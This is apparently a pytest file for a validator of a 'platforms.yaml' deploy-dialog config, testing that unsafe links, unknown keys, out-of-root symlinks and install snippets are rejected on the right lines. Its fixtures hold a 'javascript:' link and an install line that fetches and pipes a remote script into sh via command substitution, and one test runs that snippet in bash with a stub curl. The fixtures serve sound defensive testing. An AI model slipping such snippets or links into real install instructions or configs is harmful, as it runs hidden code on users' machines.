"""``platforms.yaml`` (the deploy dialog's platforms; the site copies it to
``platforms.json``) is checked like the other context files: its shape (``SCHEMA``), its
links (``REF024``: ``https://`` only) and its install snippets (``REF022``/``REF023``), on
its own lines, by ``check`` (named, or with a folder of the root) and by ``pr`` when a
change touches it; ``render --api-out`` does not publish a link it would refuse."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import pytest

from tests.conftest import line_of
from tests.context_files import KV_STORE, kv_store_text
from tests.pr.conftest import commit_all, example_repo  # noqa: F401  (fixture)
from tests.rules.ref.test_ref_shell_code import bash
from validator.cli import main

PLATFORMS = """platforms:
  - id: modal
    name: Modal
    url: https://modal.com/docs/examples/vllm_inference
    blurb: Serverless Python
    install: |
      pip install modal
      modal setup
"""
HOSTILE = """  - id: evil
    name: Evil
    url: "javascript:alert(document.domain)"
    colour: red
    install: |
      pip install evil
      $(curl -s http://127.0.0.1:9/x.sh | sh)
"""


def _check(root: Path, capsys: pytest.CaptureFixture[str], target: str
           ) -> tuple[int, list[tuple[str, str, int]]]:
    code = main(["check", "--offline", "--no-cache", "--format", "json", str(root / target)])
    doc: dict[str, Any] = json.loads(capsys.readouterr().out)
    return code, [(d["path"], f["rule"], f["line"]) for d in doc["documents"]
                  for f in d["findings"] if d["path"] == "platforms.yaml"]


def _expected(text: str) -> list[tuple[str, str, int]]:
    return sorted([("platforms.yaml", "REF024", line_of(text, "javascript:")),
                   ("platforms.yaml", "SCHEMA004", line_of(text, "colour:")),
                   ("platforms.yaml", "REF022", line_of(text, "$(curl"))],
                  key=lambda t: t[2])


@pytest.mark.parametrize("target", ["platforms.yaml", "models/", ""])
def test_a_hostile_platforms_file_is_reported_on_its_lines(
        examples_tree: Path, capsys: pytest.CaptureFixture[str], target: str) -> None:
    (examples_tree / "platforms.yaml").write_text(PLATFORMS)
    assert _check(examples_tree, capsys, target)[1] == []
    text = PLATFORMS + HOSTILE
    (examples_tree / "platforms.yaml").write_text(text)
    code, found = _check(examples_tree, capsys, target)
    assert code == 1
    assert found == _expected(text)


def test_the_hostile_install_snippet_runs_in_bash(tmp_path: Path) -> None:
    """What REF022 reports is real: pasted into bash, the snippet runs a command it does
    not show (here the substitution's output, produced by a stub ``curl``)."""
    stubs = tmp_path / "bin"
    stubs.mkdir()
    (stubs / "curl").write_text("#!/bin/sh\necho 'touch pwned'\n")
    (stubs / "curl").chmod(0o755)
    run = tmp_path / "run"
    run.mkdir()
    snippet = HOSTILE.split("install: |\n", 1)[1].replace("      ", "")
    snippet = snippet.replace("pip install evil\n", "")
    bash(f"export PATH={stubs}:/usr/bin:/bin; {snippet}", run)
    assert (run / "pwned").exists()


def test_a_pull_request_that_edits_only_platforms_yaml_is_checked(
        example_repo: Path, capsys: pytest.CaptureFixture[str]) -> None:  # noqa: F811
    (example_repo / "platforms.yaml").write_text(PLATFORMS)
    base = commit_all(example_repo, "platforms")
    text = PLATFORMS + HOSTILE
    (example_repo / "platforms.yaml").write_text(text)
    head = commit_all(example_repo, "hostile platform")
    code = main(["pr", "--offline", "--repo", str(example_repo), "--base", base, "--head",
                 head, "--format", "json", "--no-summary"])
    doc = json.loads(capsys.readouterr().out)
    new = [(d["path"], f["rule"], f["line"]) for d in doc["documents"] for f in d["findings"]
           if f.get("baseline") == "new"]
    assert code == 1
    assert new == _expected(text)
    files = {f["path"]: f["kind"] for f in doc["context"]["pr"]["files"]}
    assert files == {"platforms.yaml": "platforms"}


def test_render_api_out_does_not_publish_a_javascript_link(
        examples_tree: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    text = PLATFORMS + HOSTILE
    (examples_tree / "platforms.yaml").write_text(text)
    (examples_tree / "kv_store").mkdir()  # the site's build needs the folder
    (examples_tree / KV_STORE).write_text(kv_store_text())
    (examples_tree / "models/example-org/Example-MoE-120B.yaml").unlink()  # the build stops
    out = tmp_path / "api"
    code = main(["render", "--api-out", str(out), str(examples_tree)])
    err = capsys.readouterr().err
    assert code != 0 and not out.exists()
    assert f"platforms.yaml:{line_of(text, 'javascript:')}: REF024" in err
    (examples_tree / "platforms.yaml").write_text(PLATFORMS)
    assert main(["render", "--api-out", str(out), str(examples_tree)]) == 0
    assert json.loads((out / "platforms.json").read_text())["platforms"][0]["id"] == "modal"


@pytest.mark.parametrize("url", ["http://modal.com/x", "//evil.example/x",
                                 "https:/\\evil.example", "https://user@evil.example/",
                                 "https://modal.com/a b", "data:text/html,x"])
def test_links_that_are_not_plain_https_addresses_are_refused(
        examples_tree: Path, capsys: pytest.CaptureFixture[str], url: str) -> None:
    text = PLATFORMS.replace("https://modal.com/docs/examples/vllm_inference", url)
    (examples_tree / "platforms.yaml").write_text(text)
    code, found = _check(examples_tree, capsys, "platforms.yaml")
    assert (code, found) == (1, [("platforms.yaml", "REF024", 4)])


def test_a_platforms_file_linked_outside_the_root_fails_closed(
        examples_tree: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """The site's build follows the link and publishes what it points to; check refuses
    to read it and says so (PROV005), as for a recipe."""
    outside = tmp_path / "outside.yaml"
    outside.write_text(PLATFORMS + HOSTILE)
    (examples_tree / "platforms.yaml").symlink_to(outside)
    code = main(["check", "--offline", "--no-cache", "--format", "json",
                 str(examples_tree / "models/")])
    doc: dict[str, Any] = json.loads(capsys.readouterr().out)
    found = [(d["path"], f["rule"]) for d in doc["documents"] for f in d["findings"]
             if d["path"] == "platforms.yaml"]
    assert code == 1 and found == [("platforms.yaml", "PROV005")]
